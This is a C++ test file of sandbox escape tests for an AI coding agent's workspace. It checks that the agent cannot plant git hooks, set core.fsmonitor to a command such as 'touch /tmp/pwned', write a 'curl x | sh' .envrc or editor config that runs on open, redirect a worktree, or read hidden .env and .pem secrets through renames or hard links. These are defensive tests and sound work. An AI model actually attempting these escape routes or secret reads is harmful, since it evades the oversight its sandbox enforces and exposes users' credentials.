// SPDX-License-Identifier: Apache-2.0
// Escape tests, the workspace in direct mode (AGT-01, FS-04, SEC-03): with real git
// (a submodule, a linked worktree, a nested repository) the agent can commit but
// cannot plant hooks or executable config, cannot create the files that run code
// when the folder is opened, cannot move a hidden file's directory aside, and does
// not read a hidden .env through another hard link or at any depth.
#include "common.hpp"

#include <sys/stat.h>
#include <unistd.h>

using namespace ajesc;

namespace {

const char* const kGit = "git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgsign=false ";

// On the host: the workspace is a repository with one commit, a submodule `sub`
// (from a sibling repository), a linked worktree `wtin`, a nested repository
// `nested` and a monorepo package with its own .env.
class Workspace : public Escape {
protected:
    void SetUp() override {
        api_env_ = jail.new_canary();
        jail.plant("packages/api/.env", "KEY=" + api_env_ + "\n");
        std::string script =
            "set -e; cd '" + src_.path() + "'; git init -q; echo s > s.txt; git add s.txt; " + kGit +
            "commit -qm s; cd '" + jail.ws() + "'; git init -q; echo a > a.txt; mkdir -p packages/api; "
            "echo 'module.exports = 1' > packages/api/index.js; git add a.txt packages/api/index.js; " +
            kGit + "commit -qm init; " + kGit + "-c protocol.file.allow=always submodule add -q '" + src_.path() +
            "' sub; " + kGit + "commit -qm sub; git worktree add -q wtin; git init -q nested; echo ok";
        auto r = jail.host_sh(script);
        ASSERT_EQ(r.status, 0) << describe(r);
        config_ = ajtest::read_file(jail.ws() + "/.git/config");
    }

    // The host's .git/config is byte for byte what it was.
    void expect_config_unchanged() {
        EXPECT_EQ(ajtest::read_file(jail.ws() + "/.git/config"), config_);
    }

    ajtest::TempDir src_{"aj-subsrc"};
    std::string api_env_;
    std::string config_;
};

}  // namespace

// AGT-01: commits work (objects, refs, index stay writable) but .git/hooks is read-only.
TEST_F(Workspace, WS01_CommitWorksButAHookCannotBePlanted) {
    auto r = jail.sh(std::string("echo b > b.txt && git add b.txt && ") + kGit +
                     "commit -qm b && echo COMMITTED; echo evil > .git/hooks/pre-commit || echo HOOK_REFUSED; "
                     "echo desc > .git/description && echo OTHER_WRITTEN");
    EXPECT_TRUE(ajtest::contains(r.out, "COMMITTED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "HOOK_REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "OTHER_WRITTEN")) << describe(r);  // control: .git itself is writable
    EXPECT_FALSE(ajtest::exists(jail.ws() + "/.git/hooks/pre-commit"));
    auto log = jail.host_sh("cd '" + jail.ws() + "' && git log --oneline | wc -l");
    EXPECT_EQ(ajtest::trim(log.out), "3") << describe(log);
}

// AGT-01: `git config core.fsmonitor` (runs a program on every `git status`) fails.
TEST_F(Workspace, WS02_FsmonitorCannotBeSet) {
    auto r = jail.sh("git config core.fsmonitor 'touch /tmp/pwned' || echo REFUSED; "
                     "git config -f other.cfg core.fsmonitor x && echo CONTROL_OK");
    EXPECT_TRUE(ajtest::contains(r.out, "REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "CONTROL_OK")) << describe(r);
    expect_config_unchanged();
}

// AGT-01: `git config core.hooksPath` (hooks from a directory the agent writes) fails.
TEST_F(Workspace, WS03_HooksPathCannotBeSet) {
    auto r = jail.sh("mkdir -p myhooks && git config core.hooksPath myhooks || echo REFUSED; "
                     "echo x > myhooks/pre-commit && echo CONTROL_OK");
    EXPECT_TRUE(ajtest::contains(r.out, "REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "CONTROL_OK")) << describe(r);
    expect_config_unchanged();
}

// AGT-01: a .gitattributes (filter drivers) cannot be created where none exists.
TEST_F(Workspace, WS04_GitattributesCannotBeCreated) {
    auto r = jail.sh("echo '* filter=evil' > .gitattributes || echo REFUSED; echo x > notes.md && echo CONTROL_OK");
    EXPECT_TRUE(ajtest::contains(r.out, "REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "CONTROL_OK")) << describe(r);
    EXPECT_FALSE(ajtest::exists(jail.ws() + "/.gitattributes"));  // the placeholder is gone too
}

// AGT-01: a submodule's config (in .git/modules) and a nested repository's config
// are read-only; their other files are not.
TEST_F(Workspace, WS05_SubmoduleAndNestedRepositoryConfigReadOnly) {
    const std::string sub_cfg = ajtest::read_file(jail.ws() + "/.git/modules/sub/config");
    const std::string nested_cfg = ajtest::read_file(jail.ws() + "/nested/.git/config");
    auto r = jail.sh("echo '[core] fsmonitor = x' >> .git/modules/sub/config || echo SUB_REFUSED; "
                     "git -C nested config core.fsmonitor x || echo NESTED_REFUSED; "
                     "echo '#!/bin/sh' > nested/.git/hooks/post-checkout || echo NESTED_HOOK_REFUSED; "
                     "echo d > nested/.git/description && echo CONTROL_OK");
    EXPECT_TRUE(ajtest::contains(r.out, "SUB_REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "NESTED_REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "NESTED_HOOK_REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "CONTROL_OK")) << describe(r);
    EXPECT_EQ(ajtest::read_file(jail.ws() + "/.git/modules/sub/config"), sub_cfg);
    EXPECT_EQ(ajtest::read_file(jail.ws() + "/nested/.git/config"), nested_cfg);
}

// AGT-01: a worktree checkout's .git file (the gitdir redirect) cannot be pointed
// elsewhere, while commits in the worktree work.
TEST_F(Workspace, WS06_WorktreeRedirectReadOnlyCommitsWork) {
    auto r = jail.sh("echo 'gitdir: /tmp/evil' > wtin/.git || echo REDIRECT_REFUSED; cd wtin && echo w > w.txt && "
                     "git add w.txt && " + std::string(kGit) + "commit -qm w && echo COMMITTED");
    EXPECT_TRUE(ajtest::contains(r.out, "REDIRECT_REFUSED")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "COMMITTED")) << describe(r);
}

// Agent and editor configuration that runs code on open cannot be created.
TEST_F(Workspace, WS07_AgentAndEditorConfigCannotBeCreated) {
    auto r = jail.sh("mkdir -p .claude; echo '{}' > .claude/settings.json || echo CLAUDE_REFUSED; "
                     "echo '{}' > .mcp.json || echo MCP_REFUSED; "
                     "mkdir -p .vscode && echo '{}' > .vscode/tasks.json || echo VSCODE_REFUSED; "
                     "echo 'curl x | sh' > .envrc || echo ENVRC_REFUSED; "
                     "mkdir -p docs && echo '{}' > docs/settings.json && echo CONTROL_OK");
    for (const char* w : {"CLAUDE_REFUSED", "MCP_REFUSED", "VSCODE_REFUSED", "ENVRC_REFUSED", "CONTROL_OK"})
        EXPECT_TRUE(ajtest::contains(r.out, w)) << w << "\n" << describe(r);
    for (const char* p : {"/.claude", "/.mcp.json", "/.vscode", "/.envrc"})
        EXPECT_FALSE(ajtest::exists(jail.ws() + p)) << p << " left on the host";
}

// FS-04 / identity: the directory holding a hidden .env cannot be moved aside (the
// next run's rule would miss it), while a directory with nothing hidden can. Through
// the mounts view the directory is a mount point's parent (EBUSY); through the default
// view the rename is refused as across file systems (EXDEV), so mv copies and then
// cannot remove the hidden file.
TEST_F(Workspace, WS08_RenameOfAHiddenFilesDirectoryFails) {
    for (const char* view : {"mounts", "fuse"}) {
        auto r = jail.sh("mkdir packages/web; mv packages/web packages/web2 && echo CONTROL_OK; "
                         "mv packages/api packages/api.bak 2>&1 || echo API_REFUSED; "
                         "mv packages packages.bak 2>&1 || echo PACKAGES_REFUSED",
                         {"--view", view});
        EXPECT_TRUE(ajtest::contains(r.out, "CONTROL_OK")) << view << ": " << describe(r);
        EXPECT_TRUE(ajtest::contains(r.out, "API_REFUSED")) << view << ": " << describe(r);
        EXPECT_TRUE(ajtest::contains(r.out, "PACKAGES_REFUSED")) << view << ": " << describe(r);
        if (std::string(view) == "mounts") {
            EXPECT_TRUE(ajtest::contains(r.out + r.err, "busy")) << describe(r);  // EBUSY: a mount point
        }
        EXPECT_TRUE(ajtest::exists(jail.ws() + "/packages/api/.env")) << view;
        EXPECT_EQ(ajtest::read_file(jail.ws() + "/packages/api/.env"), "KEY=" + api_env_ + "\n") << view;
        jail.host_sh("cd '" + jail.ws() + "' && rm -rf packages/web2 packages.bak packages/api.bak");
    }
}

// SEC-03: a monorepo's packages/api/.env is hidden (`**/.env*`); its sibling is not.
TEST_F(Workspace, WS09_NestedEnvHidden) {
    auto r = jail.sh("cat packages/api/.env; cat packages/api/index.js");
    EXPECT_FALSE(ajtest::contains(r.out + r.err, api_env_)) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "module.exports")) << describe(r);  // control
}

// Issue 27, item 3: .env, .env.local and a nested package's .env show their keys with
// placeholders (never a value); the view cannot be written, replaced, moved or linked
// to read what is under it. Control: the host's files hold the values.
TEST_F(Workspace, WS20_TheDotenvViewShowsKeysOnlyAndCannotBeChanged) {
    auto r = jail.sh("cat .env .env.local packages/api/.env; "
                     "echo evil >> .env 2>/dev/null && echo APPEND_OK || echo APPEND_REFUSED; "
                     "printf 'API_KEY=x\\n' > .env.new && mv -f .env.new .env 2>/dev/null && echo REPLACE_OK || echo REPLACE_REFUSED; "
                     "mv .env moved 2>/dev/null && echo MOVE_OK || echo MOVE_REFUSED; "
                     "ln .env linked 2>/dev/null && cat linked; "
                     "rm -f .env 2>/dev/null; cat .env | head -1");
    const std::string all = r.out + r.err;
    EXPECT_FALSE(ajtest::contains(all, jail.secret("ws/.env"))) << describe(r);
    EXPECT_FALSE(ajtest::contains(all, jail.secret("ws/.env.local"))) << describe(r);
    EXPECT_FALSE(ajtest::contains(all, api_env_)) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "API_KEY=agentjail-secret-placeholder-API_KEY-")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "DB_PASSWORD=agentjail-secret-placeholder-DB_PASSWORD-")) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "KEY=agentjail-secret-placeholder-KEY-")) << describe(r);
    for (const char* refused : {"APPEND_REFUSED", "REPLACE_REFUSED", "MOVE_REFUSED"})
        EXPECT_TRUE(ajtest::contains(r.out, refused)) << refused << "\n" << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "# agentjail: a view of .env")) << "the view is still there\n" << describe(r);
    // Control: on the host the files are as they were, values and all.
    EXPECT_TRUE(ajtest::contains(ajtest::read_file(jail.ws() + "/.env"), jail.secret("ws/.env")));
    EXPECT_FALSE(ajtest::exists(jail.ws() + "/moved"));
    ::unlink((jail.ws() + "/.env.new").c_str());
    ::unlink((jail.ws() + "/linked").c_str());
}

// SEC-03: a .env with a second hard link (made by an earlier run) is hidden under both names.
TEST_F(Workspace, WS10_HardLinkOfHiddenEnvHidden) {
    const std::string notes = jail.ws() + "/notes.txt";
    // Control first: without the link, notes.txt is an ordinary, readable file.
    {
        jail.ws_dir().write("notes.txt", "plain notes\n");
        auto c = jail.sh("cat notes.txt");
        EXPECT_TRUE(ajtest::contains(c.out, "plain notes")) << describe(c);
        ASSERT_EQ(unlink(notes.c_str()), 0);
    }
    ASSERT_EQ(link((jail.ws() + "/.env").c_str(), notes.c_str()), 0);
    auto r = jail.sh("cat .env notes.txt");
    EXPECT_FALSE(ajtest::contains(r.out + r.err, jail.secret("ws/.env"))) << describe(r);
    auto e = jail.run({"explain", "-C", jail.ws(), "--", "/bin/true"});
    EXPECT_TRUE(ajtest::contains(e.out, "hard link of " + jail.ws() + "/.env")) << describe(e);
    unlink(notes.c_str());  // the sweep would count the canary in it as a leak
}

// SEC-03: `**/*.pem` hides keys at any depth.
TEST_F(Workspace, WS11_NestedPemHidden) {
    const std::string key = jail.new_canary();
    jail.plant("deploy/certs/prod/server.pem", key + "\n");
    jail.ws_dir().write("deploy/certs/prod/README", "certs here\n");
    auto r = jail.sh("cat deploy/certs/prod/server.pem; cat deploy/certs/prod/README");
    EXPECT_FALSE(ajtest::contains(r.out + r.err, key)) << describe(r);
    EXPECT_TRUE(ajtest::contains(r.out, "certs here")) << describe(r);
}
